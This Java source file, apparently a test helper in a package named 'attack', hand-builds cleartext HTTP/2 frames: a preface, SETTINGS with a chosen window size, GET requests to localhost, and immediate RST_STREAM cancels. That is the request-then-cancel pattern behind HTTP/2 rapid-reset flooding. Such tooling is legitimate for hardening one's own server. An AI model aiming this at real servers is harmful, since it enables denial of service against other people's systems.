package io.hfdownloader.attack;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;

/** What a client of HTTP/2 sends that takes nothing (RFC 9113), in the clear and with prior knowledge. */
public final class Http2Frames {

    private static final int HEADERS = 1;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int INITIAL_WINDOW_SIZE = 4;
    private static final int END_STREAM_AND_HEADERS = 5;
    private static final int CANCEL = 8;

    private final ByteArrayOutputStream bytes = new ByteArrayOutputStream();

    /** @param windowBytes what it takes of each answer before it is asked again */
    public Http2Frames(int windowBytes) {
        bytes.writeBytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
        frame(
                SETTINGS,
                0,
                0,
                ByteBuffer.allocate(6)
                        .putShort((short) INITIAL_WINDOW_SIZE)
                        .putInt(windowBytes)
                        .array());
    }

    /** Asks for a path of fewer than 127 characters, on the stream with this odd number. */
    public Http2Frames get(int stream, String path) {
        ByteArrayOutputStream head = new ByteArrayOutputStream();
        head.write(0x82); // :method: GET, by its place in the static table (RFC 7541 appendix A)
        head.write(0x86); // :scheme: http
        literal(head, 0x04, path);
        literal(head, 0x01, "localhost");
        frame(HEADERS, END_STREAM_AND_HEADERS, stream, head.toByteArray());
        return this;
    }

    /** Wants no answer any more. */
    public Http2Frames cancel(int stream) {
        frame(RST_STREAM, 0, stream, ByteBuffer.allocate(4).putInt(CANCEL).array());
        return this;
    }

    public byte[] toBytes() {
        return bytes.toByteArray();
    }

    private static void literal(ByteArrayOutputStream head, int name, String value) {
        head.write(name);
        head.write(value.length());
        head.writeBytes(value.getBytes(StandardCharsets.US_ASCII));
    }

    private void frame(int type, int flags, int stream, byte[] payload) {
        bytes.writeBytes(ByteBuffer.allocate(9)
                .putInt(payload.length << 8 | type)
                .put((byte) flags)
                .putInt(stream)
                .array());
        bytes.writeBytes(payload);
    }
}
